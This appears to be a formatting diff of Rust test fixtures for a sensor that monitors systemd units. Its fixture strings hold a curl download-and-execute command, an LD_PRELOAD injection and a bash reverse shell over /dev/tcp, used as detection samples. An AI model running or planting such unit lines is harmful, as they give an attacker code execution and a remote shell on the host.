@@ -17,10 +17,12 @@ const SERVICE: &str = "[Unit]\nDescription=A %n\nWants=w.service %p.target\nOnFa
     [Service]\nType=oneshot\nUser=one\nEnvironment=A=1 \"LD_PRELOAD=/tmp/x.so\"\nEnvironmentFile=-/etc/default/a\n\
     ExecStartPre=-@/bin/sh zero -c \"echo %i\"\nExecStart=/usr/bin/curl -s http://x \\\n# between\n  -o /tmp/y ; /tmp/y\n\
     ExecStopPost=+!/bin/%p\nRestart=no\n[Install]\nWantedBy=multi-user.target\nAlias=b.service\n";
-const SOCKET: &str = "[Socket]\nListenStream=127.0.0.1:80\nListenFIFO=/run/f\nAccept=yes\nExecStartPre=/bin/x\n";
+const SOCKET: &str =
+    "[Socket]\nListenStream=127.0.0.1:80\nListenFIFO=/run/f\nAccept=yes\nExecStartPre=/bin/x\n";
 const TIMER: &str = "[Timer]\nOnCalendar=*:0/1\nOnBootSec=1\nUnit=a.service\nPersistent=on\n";
 const DROP_IN: &str = "[Service]\nExecStart=\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\nUser=\nEnvironment=\n";
-const ODD: &str = "\u{feff}[Service]\r\nExecStart=/bin/base\r\n; comment \\\n[ Service ]\ngarbage\n=x\nUser = a \\\n";
+const ODD: &str =
+    "\u{feff}[Service]\r\nExecStart=/bin/base\r\n; comment \\\n[ Service ]\ngarbage\n=x\nUser = a \\\n";
 
 /// Command lines, words and specifiers.
 const LINES: [&str; 10] = [
@@ -160,7 +162,8 @@ fn life() -> Vec<Vec<u8>> {
         init_mnt_ns: 9,
         init_pid_ns: 5,
     };
-    let watch = |watch, path: &str, class| Watch { watch, path: path.into(), class: Some(class), owner: None };
+    let watch =
+        |watch, path: &str, class| Watch { watch, path: path.into(), class: Some(class), owner: None };
     let content = FileContent {
         path: b"/etc/systemd/system/a.service".into(),
         baseline: false,
@@ -180,7 +183,8 @@ fn life() -> Vec<Vec<u8>> {
         encode_user(kind::WATCH, 2, &watch(2, "/run/systemd/private", WatchClass::ManagerSocket)),
         encode_user(kind::PROCESS_SNAPSHOT, 3, &ProcessSnapshot { tgid: 1, ..ProcessSnapshot::default() }),
     ];
-    let file = |number, time| FileRecordBuilder::new(number, time, task).path(1, SUBTREE, b"a.service").build();
+    let file =
+        |number, time| FileRecordBuilder::new(number, time, task).path(1, SUBTREE, b"a.service").build();
     let exec = ExecParts {
         task,
         exe: sensor_common::record::FileIdentity::default(),
